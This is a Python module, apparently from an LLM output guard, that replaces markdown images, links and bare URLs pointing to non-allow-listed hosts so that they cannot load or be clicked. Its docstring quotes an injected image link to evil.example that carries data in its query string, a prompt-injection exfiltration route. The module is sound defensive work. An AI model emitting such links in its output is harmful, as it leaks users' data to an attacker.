"""Links and images in model output: anything pointing at a host outside
``guard.allowed_link_hosts`` is neutralised before a person sees it, so an injected
``![](https://evil.example/log?d=…)`` cannot load by itself or be clicked to carry data away.

``![alt](url)`` becomes ``[image removed: host]``, ``[text](url)`` becomes
``text [link removed: host]`` and a bare ``https://…`` URL ``[link removed: host]``; the path and
query (where the data would travel) are never shown. A host is allowed when it or a parent
domain is listed (``example.com`` allows ``docs.example.com``); ``"*"`` allows every host.
"""

from __future__ import annotations

import re
from collections.abc import Collection
from urllib.parse import urlsplit

#: rule ids of what :func:`neutralize` replaces
IMAGE_RULE = "LINK-IMAGE"
LINK_RULE = "LINK-MARKDOWN"
URL_RULE = "LINK-URL"

_URL = r"https?://[^\s<>()\[\]\"'`]+(?:\([^\s()]*\)[^\s<>()\[\]\"'`]*)*"
_PATTERN = re.compile(
    r"(?P<image>!\[(?P<alt>[^\]\n]*)\]\(\s*<?(?P<iurl>https?://[^)\s>]+)>?(?:\s+\"[^\"\n]*\")?\s*\))"
    r"|(?P<link>\[(?P<label>[^\]\n]*)\]\(\s*<?(?P<lurl>https?://[^)\s>]+)>?(?:\s+\"[^\"\n]*\")?\s*\))"
    rf"|(?P<raw><?(?P<url>{_URL})>?)",
    re.IGNORECASE,
)
# the end of a text that may still grow into a link or URL (held back while streaming)
_OPEN_BRACKET = re.compile(r"!?\[[^\]\n]{0,500}(?:\]|\]\([^)\n]{0,2000})?$|!$")
_OPEN_URL = re.compile(
    r"(?:<?https?://[^\s<>()\[\]\"'`]*|(?<![\w])(?:h|ht|htt|http|https|https?:|https?:/))$",
    re.IGNORECASE,
)


def host_of(url: str) -> str:
    try:
        return (urlsplit(url).hostname or "").lower().rstrip(".")
    except ValueError:
        return ""


def host_allowed(host: str, allowed: Collection[str]) -> bool:
    """Whether ``host`` or one of its parent domains is in ``allowed`` (``"*"``: any)."""
    if "*" in allowed:
        return True
    host = host.lower()
    for entry in allowed:
        entry = entry.lower().lstrip(".")
        if host == entry or host.endswith("." + entry):
            return True
    return False


def neutralize(text: str, allowed: Collection[str]) -> tuple[str, list[str]]:
    """``text`` with links and images to hosts outside ``allowed`` replaced, and the rule of
    each replacement (``LINK-IMAGE``, ``LINK-MARKDOWN``, ``LINK-URL``)."""
    if "*" in allowed or "://" not in text:
        return text, []
    rules: list[str] = []

    def replace(m: re.Match[str]) -> str:
        url = m.group("iurl") or m.group("lurl") or m.group("url")
        host = host_of(url)
        if host and host_allowed(host, allowed):
            return m.group(0)
        shown = host or "unknown host"
        if m.group("image"):
            rules.append(IMAGE_RULE)
            return f"[image removed: {shown}]"
        if m.group("link"):
            rules.append(LINK_RULE)
            return f"{m.group('label')} [link removed: {shown}]"
        rules.append(URL_RULE)
        return f"[link removed: {shown}]"

    return _PATTERN.sub(replace, text), rules


def hold_from(text: str) -> int:
    """Where the end of ``text`` starts that could still become (part of) a link: a markdown
    link or image not yet closed, a URL not yet ended, a scheme being written. ``len(text)``
    when nothing needs holding back."""
    cut = len(text)
    m = _OPEN_BRACKET.search(text, max(0, len(text) - 2600))
    if m:
        cut = m.start()
    m = _OPEN_URL.search(text, max(0, len(text) - 4000))
    if m:
        cut = min(cut, m.start())
    return cut
